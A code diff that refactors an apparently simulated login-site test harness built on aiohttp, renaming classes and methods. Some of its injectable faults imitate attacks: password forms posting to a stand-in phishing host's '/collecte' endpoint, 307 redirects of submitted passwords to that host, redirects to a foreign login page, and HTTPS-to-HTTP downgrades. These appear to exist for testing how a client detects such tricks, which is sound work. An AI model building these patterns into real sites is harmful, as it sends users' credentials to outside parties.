@@ -10,7 +10,7 @@ from yarl import URL
 
 from . import pages
 from .accounts import PortalAccount
-from .rows import STRANGER
+from .registry import PHISHING_HOST
 
 if TYPE_CHECKING:
     from .portal import Portal
@@ -19,7 +19,7 @@ PASSWORD_FIELDS = ("password", "j_password")
 
 
 @dataclass(slots=True, eq=False)
-class Memory:
+class BrowserState:
     """What a site remembers of one browser."""
 
     cookie: str
@@ -28,12 +28,12 @@ class Memory:
 
 
 @dataclass(frozen=True, slots=True)
-class Visit:
+class RequestContext:
     """One request of a browser; `returning` when it brought the site's cookie."""
 
     request: web.Request
     form: Mapping[str, str]
-    memory: Memory
+    browser_state: BrowserState
     returning: bool
 
     @property
@@ -44,12 +44,12 @@ class Visit:
     def path(self) -> str:
         return self.request.path
 
-    def asked(self, name: str) -> str:
+    def param(self, name: str) -> str:
         return self.form.get(name) or self.query.get(name, "")
 
 
-type Handler = Callable[[Visit], web.Response]
-type Door = Callable[[web.Request], Awaitable[web.StreamResponse]]
+type Handler = Callable[[RequestContext], web.Response]
+type AiohttpHandler = Callable[[web.Request], Awaitable[web.StreamResponse]]
 
 
 class Site(ABC):
@@ -62,52 +62,54 @@ class Site(ABC):
     def __init__(self, portal: Portal, host: str) -> None:
         self.portal = portal
         self.host = host
-        self.memories: dict[str, Memory] = {}
+        self.browser_states: dict[str, BrowserState] = {}
 
     @abstractmethod
     def routes(self) -> list[web.RouteDef]:
         """What the server answers to."""
 
     def get(self, path: str, handler: Handler) -> web.RouteDef:
-        return web.get(path, self._door(handler))
+        return web.get(path, self._wrap(handler))
 
     def post(self, path: str, handler: Handler) -> web.RouteDef:
-        return web.post(path, self._door(handler))
+        return web.post(path, self._wrap(handler))
 
     def absolute(self, path: str) -> str:
         return f"https://{self.host}{path}"
 
-    def go(self, url: str) -> web.Response:
+    def redirect_to(self, url: str) -> web.Response:
         """Send a browser on, in the way which is armed."""
-        if self.portal.takes("meta_refresh", self.host):
+        if self.portal.take_behavior("meta_refresh", self.host):
             return pages.meta_refresh(url)
-        if self.portal.takes("script_redirect", self.host):
+        if self.portal.take_behavior("script_redirect", self.host):
             return pages.script_redirect(url)
         return pages.redirect(url)
 
     def action(self, path: str) -> str:
         """Where a password form posts to."""
-        if self.portal.takes("foreign_form", self.host):
-            return f"https://{STRANGER}/collecte"
-        if self.portal.takes("plain_form", self.host):
+        if self.portal.take_behavior("foreign_form", self.host):
+            return f"https://{PHISHING_HOST}/collecte"
+        if self.portal.take_behavior("plain_form", self.host):
             return f"http://{self.host}{path}"
         return path
 
-    def _door(self, handler: Handler) -> Door:
-        async def enter(request: web.Request) -> web.StreamResponse:
+    def _wrap(self, handler: Handler) -> AiohttpHandler:
+        async def respond(request: web.Request) -> web.StreamResponse:
             form = {name: str(value) for name, value in (await request.post()).items()}
-            memory = self.memories.get(request.cookies.get(self.cookie, ""))
-            returning = memory is not None
-            if memory is None:
-                memory = Memory(self.portal.secret())
-                self.memories[memory.cookie] = memory
-            visit = Visit(request, form, memory, returning)
-            answer = self._mishap(visit) or handler(visit)
+            browser_state = self.browser_states.get(
+                request.cookies.get(self.cookie, "")
+            )
+            returning = browser_state is not None
+            if browser_state is None:
+                browser_state = BrowserState(self.portal.secret())
+                self.browser_states[browser_state.cookie] = browser_state
+            context = RequestContext(request, form, browser_state, returning)
+            answer = self._armed_failure(context) or handler(context)
             if not returning:
-                self._give_cookie(answer, self.cookie, memory.cookie)
+                self._give_cookie(answer, self.cookie, browser_state.cookie)
             return answer
 
-        return enter
+        return respond
 
     def _give_cookie(self, answer: web.Response, name: str, value: str) -> None:
         answer.set_cookie(
@@ -119,28 +121,33 @@ class Site(ABC):
             httponly=True,
         )
 
-    def _mishap(self, visit: Visit) -> web.Response | None:
-        takes, host, request = self.portal.takes, self.host, visit.request
-        if takes("cut", host):
+    def _armed_failure(self, context: RequestContext) -> web.Response | None:
+        take_behavior, host, request = (
+            self.portal.take_behavior,
+            self.host,
+            context.request,
+        )
+        if take_behavior("cut", host):
             if request.transport is not None:
                 request.transport.abort()
             return web.Response()
-        if takes("down", host):
+        if take_behavior("down", host):
             return pages.say("503", "Service temporairement indisponible", 503)
-        if takes("redirect_loop", host):
+        if take_behavior("redirect_loop", host):
             turn = int(request.query.get("tour", "0")) + 1
             return pages.redirect(str(request.rel_url.update_query(tour=str(turn))))
-        if takes("page_changed", host):
+        if take_behavior("page_changed", host):
             return pages.application()
-        if any(visit.form.get(name) for name in PASSWORD_FIELDS):
-            if takes("foreign_redirect", host):
+        if any(context.form.get(name) for name in PASSWORD_FIELDS):
+            if take_behavior("foreign_redirect", host):
                 return web.Response(
-                    status=307, headers={"Location": f"https://{STRANGER}/collecte"}
+                    status=307,
+                    headers={"Location": f"https://{PHISHING_HOST}/collecte"},
                 )
         elif request.method == "GET":
-            if takes("foreign_page", host):
-                target = URL(f"https://{STRANGER}/login").with_query(request.query)
+            if take_behavior("foreign_page", host):
+                target = URL(f"https://{PHISHING_HOST}/login").with_query(request.query)
                 return pages.redirect(str(target))
-            if request.secure and takes("plain_page", host):
+            if request.secure and take_behavior("plain_page", host):
                 return pages.redirect(f"http://{host}{request.path_qs}")
         return None
